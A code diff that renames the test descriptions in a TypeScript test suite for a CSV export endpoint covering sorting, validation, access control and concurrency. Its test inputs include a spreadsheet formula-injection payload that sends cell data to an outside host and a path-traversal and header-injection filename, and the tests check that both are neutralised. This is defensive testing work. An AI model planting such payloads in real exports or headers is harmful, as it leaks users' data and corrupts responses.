@@ -25,7 +25,7 @@ async function named(name: string) {
 }
 
 describe("exportCsv answers", () => {
-  it("a row for each track, most plays first, with the change against the days before", async () => {
+  it("exportCsv answers a row for each track, most plays first, with the change against the days before", async () => {
     const { producer, own, shared } = await createScene();
     await play(
       { track: own.id, device: "a" },
@@ -69,7 +69,7 @@ describe("exportCsv answers", () => {
     expect(rows[0]?.artists?.split(", ")).toHaveLength(2);
   });
 
-  it("a row for each day and track, empty days included", async () => {
+  it("exportCsv answers a row for each day and track, empty days included", async () => {
     const { producer, own, shared } = await createScene();
     await play(
       { track: own.id, device: "a" },
@@ -93,7 +93,7 @@ describe("exportCsv answers", () => {
     ]);
   });
 
-  it("albums and artists, a listener of two tracks once", async () => {
+  it("exportCsv answers albums and artists, a listener of two tracks once", async () => {
     const { producer, artist, album, own, shared } = await createScene();
     await play({ track: own.id, device: "a" }, { track: shared.id, device: "a" });
     const albums = csvRows(await exportAs("csv", producer.token, { type: "albums" }));
@@ -104,7 +104,7 @@ describe("exportCsv answers", () => {
     expect(Object.keys(artists[0] ?? {}).slice(0, 3)).toEqual(["id", "name", "plays"]);
   });
 
-  it("the days asked for instead of a period, against as many before", async () => {
+  it("exportCsv answers the days asked for instead of a period, against as many before", async () => {
     const { producer, own } = await createScene();
     await play(
       { track: own.id, device: "a", daysAgo: 10 },
@@ -122,7 +122,7 @@ describe("exportCsv answers", () => {
     );
   });
 
-  it("all artists the account manages, or the one it names, a shared track once", async () => {
+  it("exportCsv answers all artists the account manages, or the one it names, a shared track once", async () => {
     const { producer, artist, own, shared, rivals } = await createScene();
     await addMember(rivals.id, producer.id);
     const idsOf = async (body: object) =>
@@ -133,14 +133,14 @@ describe("exportCsv answers", () => {
     expect((await idsOf({ type: "artists" })).sort()).toEqual([artist.id, rivals.id].sort());
   });
 
-  it("a header and nothing more where there is nothing", async () => {
+  it("exportCsv answers a header and nothing more where there is nothing", async () => {
     const { token, id } = await createCaller();
     await createArtist({ owner_id: id });
     const { text } = await exportAs("csv", token);
     expect(text.split("\r\n")).toEqual([expect.stringMatching(/^\ufeffid,name,/), ""]);
   });
 
-  it("a byte order mark for Excel, unless it is not wanted", async () => {
+  it("exportCsv begins with a byte order mark for Excel, unless it is not wanted", async () => {
     const { token } = await named("Größe");
     expect([...(await exportAs("csv", token)).bytes.slice(0, 5)]).toEqual([0xef, 0xbb, 0xbf, 0x69, 0x64]);
     expect((await exportAs("csv", token, { byte_order_mark: false })).text.slice(0, 3)).toBe("id,");
@@ -166,7 +166,7 @@ describe("exportCsv answers", () => {
     ["NULL", "NULL"],
     ["東京 Привет مرحبا 🔥", "東京 Привет مرحبا 🔥"],
     ['=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'],
-  ])("the name %j as %j, for tracks, albums and artists", async (name, cell) => {
+  ])("exportCsv answers the name %j as %j, for tracks, albums and artists", async (name, cell) => {
     const { token } = await named(name);
     const cells = async (type: string) => csvRows(await exportAs("csv", token, { type }))[0];
     expect(await cells("tracks")).toMatchObject({ name: cell, artists: cell, album: cell });
@@ -174,13 +174,13 @@ describe("exportCsv answers", () => {
     expect(await cells("artists")).toMatchObject({ name: cell });
   });
 
-  it("numbers below 0 as numbers", async () => {
+  it("exportCsv answers numbers below 0 as numbers", async () => {
     const { token, track } = await named("Low");
     await play({ track: track.id, device: "a", daysAgo: 31 });
     expect((await exportAs("csv", token)).text).toMatch(/,0,0,0,0,-100,-100\r\n$/);
   });
 
-  it("a file named after the artist, whatever that is called", async () => {
+  it("exportCsv answers a file named after the artist, whatever that is called", async () => {
     const { token } = await named('../Größe"\r\n');
     expect((await exportAs("csv", token, { type: "albums" })).headers.get("Content-Disposition")).toMatch(
       /^attachment; filename="Gro_e-albums-[\d-]+-to-[\d-]+\.csv"; filename\*=UTF-8''Gr%C3%B6%C3%9Fe-albums-/,
@@ -203,24 +203,24 @@ describe("exportCsv refuses", () => {
     ["another type", () => ({ type: "users" }), "type"],
     ["another grouping", () => ({ group_by: "week" }), "group_by"],
     ["an id that is none", () => ({ artist_id: "1" }), "artist_id"],
-  ])("%s, naming the field", async (_, body, field) => {
+  ])("exportCsv refuses %s, naming the field", async (_, body, field) => {
     const { status, body: answer } = await exportAs("csv", (await createCaller()).token, body());
     expect(status).toBe(422);
     expect(answer).toMatchObject({ success: false, error: "validation_failed" });
     expect(Object.keys(answer.errors)).toEqual([field]);
   });
 
-  it("an account that manages no artist and names none", async () => {
+  it("exportCsv refuses an account that manages no artist and names none", async () => {
     const { status, body } = await exportAs("csv", (await createCaller()).token);
     expect([status, body.message]).toEqual([403, "This account does not manage an artist."]);
   });
 
-  it("an unknown artist", async () => {
+  it("exportCsv refuses an unknown artist", async () => {
     const { status, body } = await exportAs("csv", (await createCaller()).token, { artist_id: 999999999 });
     expect([status, body.error]).toEqual([404, "not_found"]);
   });
 
-  it("more than two exports at once of one account: the third waits, but not forever", async () => {
+  it("exportCsv refuses more than two exports at once of one account: the third waits, but not forever", async () => {
     const { token, artist } = await named("Busy");
     for (let track = 0; track < 10; track++) await createTrack([artist.id]);
     const large = { group_by: "day", period: "1-year" };
@@ -246,13 +246,13 @@ function rawRequest(token: string, body: object = {}): Request {
 }
 
 describe("exportCsv guards", () => {
-  it("an artist from accounts that do not manage it", async () => {
+  it("exportCsv refuses an artist to accounts that do not manage it", async () => {
     const { rival, artist } = await createScene();
     const { status, body } = await exportAs("csv", rival.token, { artist_id: artist.id });
     expect([status, body.error]).toEqual([403, "forbidden"]);
   });
 
-  it("each producer's numbers from the other, but the track they share", async () => {
+  it("exportCsv hides each producer's numbers from the other, but not the track they share", async () => {
     const { producer, rival, own, shared } = await createScene();
     await play({ track: own.id, device: "a" }, { track: shared.id, device: "a" });
     const ids = async (token: string) =>
@@ -263,7 +263,7 @@ describe("exportCsv guards", () => {
     expect(await ids(rival.token)).toEqual([shared.id]);
   });
 
-  it("nothing from an operator who names an artist, and everything from one who names none", async () => {
+  it("exportCsv answers an operator who names an artist with its tracks, and refuses one who names none", async () => {
     const { artist, own, shared } = await createScene();
     const operator = await createUser({ role: "operator" });
     const token = await createToken(operator.id);
@@ -272,7 +272,7 @@ describe("exportCsv guards", () => {
     expect((await exportAs("csv", token)).status).toBe(403);
   });
 
-  it("the database: a client that disconnects leaves nothing behind", async () => {
+  it("A client of exportCsv that disconnects leaves nothing behind in the database", async () => {
     const { token } = await named("Leaving");
     const response = await answer(rawRequest(token));
     await response.body?.cancel();
